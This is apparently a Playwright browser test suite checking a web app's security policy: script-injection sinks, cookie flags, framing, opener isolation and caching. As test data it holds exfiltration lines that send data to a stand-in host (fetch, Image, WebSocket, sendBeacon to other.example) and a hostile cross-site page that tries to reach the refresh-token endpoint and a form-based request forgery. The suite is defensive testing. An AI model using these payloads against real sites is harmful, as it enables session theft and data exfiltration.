"""The policy as the browser enforces it, cookies, other sites' pages, frames."""

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page

from tests.browser.support.guest_steps import MAIN_BUTTON
from tests.browser.support.site import Site
from tests.browser.support.stranger import Stranger
from tests.browser.support.visitors import Visitor, Visitors

pytestmark = pytest.mark.slow
COOKIE = "fumibako_refresh"


@pytest.fixture
def attacked(visitors: Visitors) -> Visitor:
    """A signed-in member's page in which a test does what an injected script would do."""
    visitor = visitors.member(path="/transfers")
    visitor.page.get_by_role("heading", level=1).wait_for()
    visitor.guard.allow(
        r"Content Security Policy|Trusted ?Type|TrustedHTML|TrustedScript|Refused to|CSP|violates the following"
    )
    visitor.guard.allow(r"third-party request: GET https?://other\.example/")
    return visitor


def tried(page: Page, body: str) -> str:
    """Run statements in the page; ``done``, or the name of the error they end with. After a timer: DevTools' own calls may use ``eval``."""
    value: str = page.evaluate(
        f"""async () => {{
          await new Promise(go => setTimeout(go));
          try {{ {body}; return "done" }} catch (error) {{ return error.name }}
        }}"""
    )
    return value


@pytest.mark.parametrize(
    "sink",
    [
        "document.body.innerHTML = '<b>x</b>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.createElement('iframe').srcdoc = '<b>x</b>'",
        "document.createElement('script').src = '/assets/x.js'",
        "document.createElement('script').text = 'window.hit = 1'",
        "document.write('<b>x</b>')",
        "new Worker('/assets/x.js')",
        "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
        "new Function('window.hit = 1')()",
        "trustedTypes.createPolicy('mine', { createHTML: text => text })",
        "trustedTypes.createPolicy('default', { createHTML: text => text })",
    ],
)
def test_text_never_becomes_markup_or_program(attacked: Visitor, sink: str) -> None:
    assert tried(attacked.page, sink) in ("TypeError", "EvalError")
    assert attacked.page.evaluate("() => window.hit") is None


def test_injected_elements_do_nothing(attacked: Visitor) -> None:
    attacked.page.evaluate(
        """() => {
          const link = document.createElement("a");
          link.href = "javascript:window.hit = 1";
          document.body.append(link);
          link.click();
          const styled = document.createElement("p");
          styled.setAttribute("style", "position: fixed");
          styled.id = "styled";
          document.body.append(styled);
          const sheet = document.createElement("style");
          sheet.textContent = "h1 { display: none }";
          document.head.append(sheet);
        }"""
    )
    page = attacked.page
    assert page.evaluate("() => getComputedStyle(document.getElementById('styled')).position") == "static"
    assert page.get_by_role("heading", level=1).is_visible()
    assert page.evaluate("() => window.hit") is None


@pytest.mark.parametrize(
    "leak",
    [
        "await fetch('https://other.example/?x')",
        "await new Promise((_, no) => { const image = new Image(); image.onerror = () => no(new TypeError()); image.src = 'https://other.example/x' })",
        "await new Promise((_, no) => { const s = new WebSocket('wss://other.example/'); s.onerror = () => no(new TypeError()) })",
        "if (!navigator.sendBeacon('https://other.example/', 'x')) throw new TypeError()",
    ],
)
def test_nothing_can_be_sent_to_another_host(attacked: Visitor, leak: str) -> None:
    asked: list[str] = []
    attacked.page.on("requestfinished", lambda request: asked.append(request.url))
    tried(attacked.page, leak)
    assert not [url for url in asked if "other.example" in url]


def test_the_sign_in_is_out_of_reach_of_scripts(attacked: Visitor, site: Site) -> None:
    [cookie] = attacked.context.cookies(site.url + "/auth/v1/token")
    assert (cookie.get("httpOnly"), cookie.get("sameSite"), cookie.get("path")) == (True, "Strict", "/auth")
    assert attacked.context.cookies(site.url + "/transfers/v1/transfers") == []
    assert attacked.page.evaluate("() => document.cookie") == ""
    kept = attacked.page.evaluate("() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, history.state])")
    assert "eyJ" not in kept
    assert cookie.get("value", "-") not in kept


def _evil(site: Site) -> str:
    """What another site's page tries as soon as it is opened."""
    return f"""<!doctype html><link rel=icon href=data:,><title>evil</title><script>
      const body = JSON.stringify({{ grant_type: "refresh_token" }});
      const simple = {{ method: "POST", mode: "no-cors", credentials: "include", body }};
      const full = {{ method: "POST", credentials: "include", body, headers: {{ "Content-Type": "application/json" }} }};
      const read = async how => {{ try {{ const a = await fetch("{site.url}/auth/v1/token", how); return [a.type, a.status, await a.text()] }} catch (e) {{ return e.name }} }};
      window.result = (async () => [await read(simple), await read(full)])();
    </script>
    <form method="post" enctype="text/plain" action="{site.url}/auth/v1/token"><input name='{{"grant_type":"refresh_token","x":"' value='"}}'></form>"""


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_another_site_cannot_use_the_sign_in(visitors: Visitors, site: Site, host: str) -> None:
    member = visitors.member()
    member.guard.allow(r"third-party request|CORS|net::ERR_FAILED|Failed to load resource")
    before = member.context.cookies(site.url + "/auth/v1/token")
    with Stranger(host) as stranger:
        stranger.documents["/"] = _evil(site)
        page = member.page
        page.goto(stranger.url + "/")
        simple, full = page.evaluate("() => window.result")
        # Not even an opaque answer: Cross-Origin-Resource-Policy; and no preflight is answered.
        assert (simple, full) == ("TypeError", "TypeError")
        with page.expect_navigation():
            page.evaluate("() => document.forms[0].submit()")
        assert "access_token" not in page.content()
    assert member.context.cookies(site.url + "/auth/v1/token") == before


def test_the_page_is_shown_in_no_frame(visitors: Visitors, site: Site) -> None:
    member = visitors.member()
    member.guard.allow(r"third-party request|frame-ancestors|Refused to frame|chrome-error")
    with Stranger("127.0.0.1") as stranger:
        stranger.documents["/"] = (
            f"<!doctype html><link rel=icon href=data:,><title>frames</title><iframe src='{site.url}/send'></iframe>"
        )
        member.page.goto(stranger.url + "/")
        [frame] = [one for one in member.page.frames if one.parent_frame is not None]
        member.page.wait_for_function("() => document.readyState === 'complete'")
        assert frame.url == "chrome-error://chromewebdata/"


def test_a_page_of_ours_has_no_hold_on_who_opened_it(visitors: Visitors, site: Site) -> None:
    visitor = visitors.visitor()
    visitor.guard.allow(r"third-party request|Cross-Origin-Opener-Policy")
    with Stranger("localhost") as stranger:
        stranger.documents["/"] = (
            f"<!doctype html><link rel=icon href=data:,><title>opens</title><a target=_blank rel=opener href='{site.url}/sign-in'>x</a>"
        )
        visitor.page.goto(stranger.url + "/")
        with visitor.context.expect_page() as opened:
            visitor.page.get_by_text("x").click()
        page: Page = opened.value
        page.get_by_role("heading", level=1).wait_for()
        assert page.evaluate("() => window.opener") is None


def test_a_guest_s_answers_are_kept_by_no_cache(guest_page: Callable[..., Page], site: Site, small_file: Any) -> None:
    sent = site.once("safety link", lambda: site.send(small_file))
    stores: list[str] = []
    page = guest_page("")
    page.on("response", lambda r: stores.append(r.headers.get("cache-control", "")) if "/auth/v1/" in r.url else None)
    page.goto(sent.link)
    page.locator(MAIN_BUTTON).first.wait_for()
    assert stores
    assert set(stores) == {"no-store"}
